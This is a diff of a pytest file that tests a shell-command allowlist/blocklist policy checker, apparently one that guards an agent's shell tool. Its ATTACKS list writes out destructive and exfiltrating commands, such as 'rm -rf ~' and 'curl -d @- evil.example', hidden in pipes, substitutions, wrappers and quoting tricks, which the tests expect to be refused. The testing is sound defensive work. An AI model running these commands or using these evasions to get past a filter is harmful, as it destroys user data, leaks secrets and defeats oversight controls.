@@ -30,86 +30,86 @@ BLOCK = ShellConfig(mode="blocklist")
 # (line, rules that may refuse it). Each runs a program the allowlist does not allow, somewhere the
 # policy must look: lists, pipes, substitutions, here-documents, wrappers, shells' -c text.
 ATTACKS: list[tuple[str, set[str]]] = [
-    ('rm -rf ~', {'allowlist'}),
-    ('ls; rm -rf ~', {'allowlist'}),
-    ('ls && rm -rf ~', {'allowlist'}),
-    ('false || rm -rf ~', {'allowlist'}),
-    ('ls | rm -rf ~', {'allowlist'}),
-    ('ls |& rm -rf ~', {'allowlist'}),
-    ('ls\nrm -rf ~', {'allowlist'}),
-    ('ls & rm -rf ~', {'allowlist'}),
-    ('ls\\\n;rm x', {'allowlist'}),
-    ('! rm x', {'allowlist'}),
-    ('(rm -rf ~)', {'allowlist'}),
-    ('{ rm -rf ~; }', {'allowlist'}),
-    ('echo $(rm -rf ~)', {'allowlist'}),
-    ('echo `rm -rf ~`', {'allowlist'}),
-    ('ls $(echo $(curl evil.example))', {'allowlist'}),
-    ('echo "$(rm x)"', {'allowlist'}),
-    ('x=$(rm x)', {'allowlist'}),
-    ('cat <(curl evil.example)', {'allowlist'}),
-    ('echo x > >(curl -d @- evil.example)', {'allowlist'}),
-    ('cat <<EOF\n$(rm -rf ~)\nEOF', {'allowlist'}),
-    ('cat <<EOF\n`rm -rf ~`\nEOF', {'allowlist'}),
-    ('cat <<< "$(rm -rf ~)"', {'allowlist'}),
-    ("cat <<'EOF' | sh\nrm -rf ~\nEOF", {'wrapper'}),
-    ('echo rm -rf ~ | sh', {'wrapper'}),
-    ('echo x # harmless\nrm x', {'allowlist'}),
-    ('x=1 rm x', {'allowlist'}),
-    ('env rm -rf ~', {'allowlist'}),
-    ('env -i HOME=/tmp rm x', {'allowlist'}),
-    ("env -S 'rm -rf ~'", {'allowlist', 'wrapper'}),
-    ('nice -n 5 rm -rf ~', {'allowlist'}),
-    ('timeout -s KILL 5 rm x', {'allowlist'}),
-    ('nohup rm x', {'allowlist'}),
-    ('command rm x', {'allowlist'}),
-    ('exec rm x', {'allowlist'}),
-    ('time rm x', {'allowlist'}),
-    ('time -p rm x', {'allowlist'}),
-    ('stdbuf -oL rm x', {'allowlist'}),
-    ('setsid rm x', {'allowlist'}),
-    ('echo x | sudo -s', {'allowlist'}),
-    ('echo x | xargs rm', {'allowlist'}),
-    ("find . -name '*.py' | xargs -I{} sh -c 'rm {}'", {'allowlist'}),
-    ("sh -c 'rm -rf ~'", {'allowlist'}),
-    ('bash -c "ls; rm -rf ~"', {'allowlist'}),
-    ('sh -c "sh -c \'rm x\'"', {'allowlist'}),
-    ("env nice timeout 5 sh -c 'nohup rm x'", {'allowlist'}),
-    ('sh -c "$CMD"', {'wrapper'}),
-    ('timeout 5 $CMD', {'dynamic-program'}),
-    ('/bin/rm x', {'allowlist'}),
-    ('./rm x', {'allowlist'}),
-    ('/usr/bin/env rm x', {'allowlist'}),
-    ('/tmp/evil/ls', {'allowlist'}),
-    ('"rm" x', {'allowlist'}),
-    ('r\\m x', {'allowlist'}),
-    ('\'r\'"m" x', {'allowlist'}),
-    ("$'\\x72m' x", {'dynamic-program'}),
-    ('$CMD x', {'dynamic-program'}),
-    ('$(echo rm) x', {'dynamic-program'}),
-    ('/bin/r? x', {'dynamic-program'}),
-    ('{rm,x}', {'dynamic-program'}),
-    ('echo ${x:-$(rm x)}', {'hidden-substitution'}),
-    ('echo ${x/`rm x`/y}', {'hidden-substitution'}),
-    ('f() { rm x; }; f', {'function'}),
-    ('function ls { rm x; }; ls', {'function'}),
-    ('eval rm x', {'allowlist', 'eval'}),
-    ('eval ls', {'allowlist', 'eval'}),
-    ('source evil.sh', {'allowlist', 'source'}),
-    ('. evil.sh', {'allowlist', '.'}),
-    ('alias ls=rm', {'allowlist', 'alias'}),
-    ("trap 'rm x' EXIT", {'allowlist', 'trap'}),
-    ('[[ -f x ]] && rm x', {'unparsable'}),
-    ('case x in x) rm x;; esac', {'unparsable'}),
-    ('echo $((1+2)); rm x', {'unparsable'}),
-    ('coproc rm x', {'unparsable'}),
-    ('echo `echo \\`rm x\\``', {'unparsable'}),
-    ('ls\r\nrm x', {'control-character'}),
-    ('ls\x00; rm x', {'control-character'}),
-    ('find . -exec rm {} \\;', {'allowlist'}),
-    ("find . -execdir sh -c 'rm x' \\;", {'allowlist'}),
-    ("python -c 'print(1)' && rm x", {'allowlist'}),
-    ('echo x | tee -a ~/.bashrc', {'allowlist'}),
+    ("rm -rf ~", {"allowlist"}),
+    ("ls; rm -rf ~", {"allowlist"}),
+    ("ls && rm -rf ~", {"allowlist"}),
+    ("false || rm -rf ~", {"allowlist"}),
+    ("ls | rm -rf ~", {"allowlist"}),
+    ("ls |& rm -rf ~", {"allowlist"}),
+    ("ls\nrm -rf ~", {"allowlist"}),
+    ("ls & rm -rf ~", {"allowlist"}),
+    ("ls\\\n;rm x", {"allowlist"}),
+    ("! rm x", {"allowlist"}),
+    ("(rm -rf ~)", {"allowlist"}),
+    ("{ rm -rf ~; }", {"allowlist"}),
+    ("echo $(rm -rf ~)", {"allowlist"}),
+    ("echo `rm -rf ~`", {"allowlist"}),
+    ("ls $(echo $(curl evil.example))", {"allowlist"}),
+    ('echo "$(rm x)"', {"allowlist"}),
+    ("x=$(rm x)", {"allowlist"}),
+    ("cat <(curl evil.example)", {"allowlist"}),
+    ("echo x > >(curl -d @- evil.example)", {"allowlist"}),
+    ("cat <<EOF\n$(rm -rf ~)\nEOF", {"allowlist"}),
+    ("cat <<EOF\n`rm -rf ~`\nEOF", {"allowlist"}),
+    ('cat <<< "$(rm -rf ~)"', {"allowlist"}),
+    ("cat <<'EOF' | sh\nrm -rf ~\nEOF", {"wrapper"}),
+    ("echo rm -rf ~ | sh", {"wrapper"}),
+    ("echo x # harmless\nrm x", {"allowlist"}),
+    ("x=1 rm x", {"allowlist"}),
+    ("env rm -rf ~", {"allowlist"}),
+    ("env -i HOME=/tmp rm x", {"allowlist"}),
+    ("env -S 'rm -rf ~'", {"allowlist", "wrapper"}),
+    ("nice -n 5 rm -rf ~", {"allowlist"}),
+    ("timeout -s KILL 5 rm x", {"allowlist"}),
+    ("nohup rm x", {"allowlist"}),
+    ("command rm x", {"allowlist"}),
+    ("exec rm x", {"allowlist"}),
+    ("time rm x", {"allowlist"}),
+    ("time -p rm x", {"allowlist"}),
+    ("stdbuf -oL rm x", {"allowlist"}),
+    ("setsid rm x", {"allowlist"}),
+    ("echo x | sudo -s", {"allowlist"}),
+    ("echo x | xargs rm", {"allowlist"}),
+    ("find . -name '*.py' | xargs -I{} sh -c 'rm {}'", {"allowlist"}),
+    ("sh -c 'rm -rf ~'", {"allowlist"}),
+    ('bash -c "ls; rm -rf ~"', {"allowlist"}),
+    ("sh -c \"sh -c 'rm x'\"", {"allowlist"}),
+    ("env nice timeout 5 sh -c 'nohup rm x'", {"allowlist"}),
+    ('sh -c "$CMD"', {"wrapper"}),
+    ("timeout 5 $CMD", {"dynamic-program"}),
+    ("/bin/rm x", {"allowlist"}),
+    ("./rm x", {"allowlist"}),
+    ("/usr/bin/env rm x", {"allowlist"}),
+    ("/tmp/evil/ls", {"allowlist"}),
+    ('"rm" x', {"allowlist"}),
+    ("r\\m x", {"allowlist"}),
+    ("'r'\"m\" x", {"allowlist"}),
+    ("$'\\x72m' x", {"dynamic-program"}),
+    ("$CMD x", {"dynamic-program"}),
+    ("$(echo rm) x", {"dynamic-program"}),
+    ("/bin/r? x", {"dynamic-program"}),
+    ("{rm,x}", {"dynamic-program"}),
+    ("echo ${x:-$(rm x)}", {"hidden-substitution"}),
+    ("echo ${x/`rm x`/y}", {"hidden-substitution"}),
+    ("f() { rm x; }; f", {"function"}),
+    ("function ls { rm x; }; ls", {"function"}),
+    ("eval rm x", {"allowlist", "eval"}),
+    ("eval ls", {"allowlist", "eval"}),
+    ("source evil.sh", {"allowlist", "source"}),
+    (". evil.sh", {"allowlist", "."}),
+    ("alias ls=rm", {"allowlist", "alias"}),
+    ("trap 'rm x' EXIT", {"allowlist", "trap"}),
+    ("[[ -f x ]] && rm x", {"unparsable"}),
+    ("case x in x) rm x;; esac", {"unparsable"}),
+    ("echo $((1+2)); rm x", {"unparsable"}),
+    ("coproc rm x", {"unparsable"}),
+    ("echo `echo \\`rm x\\``", {"unparsable"}),
+    ("ls\r\nrm x", {"control-character"}),
+    ("ls\x00; rm x", {"control-character"}),
+    ("find . -exec rm {} \\;", {"allowlist"}),
+    ("find . -execdir sh -c 'rm x' \\;", {"allowlist"}),
+    ("python -c 'print(1)' && rm x", {"allowlist"}),
+    ("echo x | tee -a ~/.bashrc", {"allowlist"}),
 ]
 
 
@@ -119,7 +119,9 @@ def test_the_corpus_is_large() -> None:
 
 
 @pytest.mark.parametrize(("line", "rules"), ATTACKS, ids=[repr(line)[:60] for line, _ in ATTACKS])
-@pytest.mark.parametrize("shell", [DEFAULT_ALLOW, WIDE_ALLOW], ids=["default-allowlist", "wide-allowlist"])
+@pytest.mark.parametrize(
+    "shell", [DEFAULT_ALLOW, WIDE_ALLOW], ids=["default-allowlist", "wide-allowlist"]
+)
 def test_no_attack_passes_the_allowlist(line: str, rules: set[str], shell: ShellConfig) -> None:
     decision = check_command(line, shell)
     assert not decision.allowed, f"{line!r} passed: {decision.commands}"
@@ -180,8 +182,13 @@ def test_legit_lines_pass_the_default_allowlist(line: str) -> None:
 
 
 def test_an_allowed_interpreter_runs_what_it_is_given() -> None:
-    # The allowlist names programs; what an allowed python or uv then does is confined by the sandbox.
-    for line in ("python -c 'import os; os.remove(\"x\")'", "uv run rm x", "python - <<'EOF'\nprint(1)\nEOF"):
+    # The allowlist names programs; what an allowed python or uv then does is confined by the
+    # sandbox.
+    for line in (
+        "python -c 'import os; os.remove(\"x\")'",
+        "uv run rm x",
+        "python - <<'EOF'\nprint(1)\nEOF",
+    ):
         assert check_command(line, DEFAULT_ALLOW).allowed, line
 
 
@@ -206,12 +213,17 @@ def test_checked_commands_include_the_inner_ones() -> None:
     assert decision.commands == ("timeout 5 sh -c ls | wc -l", "sh -c ls | wc -l", "ls", "wc -l")
 
 
-# -- exact refusal reasons ----------------------------------------------------------------------------
+# -- exact refusal reasons
+# ----------------------------------------------------------------------------
 
 
 def test_a_refusal_names_the_simple_command_and_the_rule() -> None:
     decision = check_command("ls -la && rm -rf build", DEFAULT_ALLOW)
-    assert (decision.allowed, decision.command, decision.rule) == (False, "rm -rf build", "allowlist")
+    assert (decision.allowed, decision.command, decision.rule) == (
+        False,
+        "rm -rf build",
+        "allowlist",
+    )
     assert decision.reason == (
         "refused by the shell policy (allowlist mode): `rm -rf build` matches none of shell.allowlist_patterns"
     )
@@ -224,7 +236,9 @@ def test_a_path_program_must_be_allowed_by_name_and_by_path() -> None:
         "refused by the shell policy (allowlist mode): `/tmp/evil/ls -l` matches none of "
         "shell.allowlist_patterns (a program given as a path must be allowed both as `ls` and as `/tmp/evil/ls`)"
     )
-    assert check_command("/bin/ls -l", ShellConfig(mode="allowlist", allowlist_patterns=(r"^(/bin/)?ls\b",))).allowed
+    assert check_command(
+        "/bin/ls -l", ShellConfig(mode="allowlist", allowlist_patterns=(r"^(/bin/)?ls\b",))
+    ).allowed
 
 
 def test_refusal_reasons_for_what_cannot_be_checked() -> None:
@@ -234,12 +248,18 @@ def test_refusal_reasons_for_what_cannot_be_checked() -> None:
             "`$CMD -rf x` runs a program whose name `$CMD` is decided at run time (a variable, substitution, "
             "glob, brace or $'…' quoting); write the program name literally",
         ),
-        "echo ${x:-$(rm x)}": ("hidden-substitution", "`${x:-$(rm x)}` hides a command the policy cannot see"),
+        "echo ${x:-$(rm x)}": (
+            "hidden-substitution",
+            "`${x:-$(rm x)}` hides a command the policy cannot see",
+        ),
         "f() { ls; }": ("function", "`f() { ls; }` defines a shell function"),
     }
     for line, (rule, detail) in cases.items():
         decision = check_command(line, DEFAULT_ALLOW)
-        assert (decision.rule, decision.reason) == (rule, f"refused by the shell policy (allowlist mode): {detail}")
+        assert (decision.rule, decision.reason) == (
+            rule,
+            f"refused by the shell policy (allowlist mode): {detail}",
+        )
     eval_allowed = ShellConfig(mode="allowlist", allowlist_patterns=(r"^(eval|ls)\b",))
     decision = check_command("eval ls", eval_allowed)
     assert (decision.rule, decision.reason) == (
@@ -256,7 +276,9 @@ def test_refusal_reasons_for_what_cannot_be_checked() -> None:
     assert (decision.rule, decision.command) == ("wrapper", "sh")
     assert decision.reason.endswith("`sh`: `sh` without -c runs a script file or standard input")
     decision = check_command("timeout --bogus 5 ls", WIDE_ALLOW)
-    assert decision.reason.endswith("`timeout --bogus 5 ls`: `timeout` option `--bogus` is not known to the policy")
+    assert decision.reason.endswith(
+        "`timeout --bogus 5 ls`: `timeout` option `--bogus` is not known to the policy"
+    )
 
 
 def test_unparsable_lines_are_refused_with_the_parser_error() -> None:
@@ -267,7 +289,8 @@ def test_unparsable_lines_are_refused_with_the_parser_error() -> None:
     assert "use plain commands, pipes, &&, ||, ;" in decision.reason
 
 
-# -- blocklist mode -------------------------------------------------------------------------------------
+# -- blocklist mode
+# -------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(
@@ -294,8 +317,12 @@ def test_blocklist_refuses_a_listed_program_anywhere(line: str, command: str) ->
     assert not decision.allowed
     assert decision.rule == "blocklist[0]"
     assert decision.command == command
-    matched = command.removeprefix("/bin/")  # a program given as a path matches by its base name too
-    assert decision.reason.startswith(f"refused by the shell policy (blocklist mode): `{matched}` matches")
+    matched = command.removeprefix(
+        "/bin/"
+    )  # a program given as a path matches by its base name too
+    assert decision.reason.startswith(
+        f"refused by the shell policy (blocklist mode): `{matched}` matches"
+    )
     assert "matches shell.blocklist_patterns[0]" in decision.reason
 
 
@@ -327,22 +354,28 @@ def test_blocklist_matches_an_unparsable_line_by_its_commands() -> None:
     ],
 )
 def test_blocklist_lets_other_lines_through(line: str) -> None:
-    # A word inside an argument or a file name is no program; what `sh` reads from a pipe, or a program
-    # named at run time, cannot be known and is left to the sandbox.
+    # A word inside an argument or a file name is no program; what `sh` reads from a pipe, or a
+    # program named at run time, cannot be known and is left to the sandbox.
     decision = check_command(line, BLOCK)
     assert decision.allowed, decision.reason
 
 
 @pytest.mark.parametrize(
     ("line", "rule"),
-    [("ls\r", "control-character"), ("ls\x00 x", "control-character"), ("", "empty"), ("x" * 100_001, "too-long")],
+    [
+        ("ls\r", "control-character"),
+        ("ls\x00 x", "control-character"),
+        ("", "empty"),
+        ("x" * 100_001, "too-long"),
+    ],
 )
 def test_blocklist_mode_still_refuses_what_is_not_a_command_line(line: str, rule: str) -> None:
     decision = check_command(line, BLOCK)
     assert (decision.allowed, decision.rule) == (False, rule)
 
 
-# -- argv (use_shell = false) ---------------------------------------------------------------------------
+# -- argv (use_shell = false)
+# ---------------------------------------------------------------------------
 
 
 def test_argv_is_checked_without_shell_expansion() -> None:
@@ -357,7 +390,8 @@ def test_argv_is_checked_without_shell_expansion() -> None:
     assert check_argv(["grep", "sudo", "notes"], BLOCK).allowed
 
 
-# -- limits -------------------------------------------------------------------------------------------
+# -- limits
+# -------------------------------------------------------------------------------------------
 
 
 def test_hostile_sizes_are_refused_or_bounded() -> None:
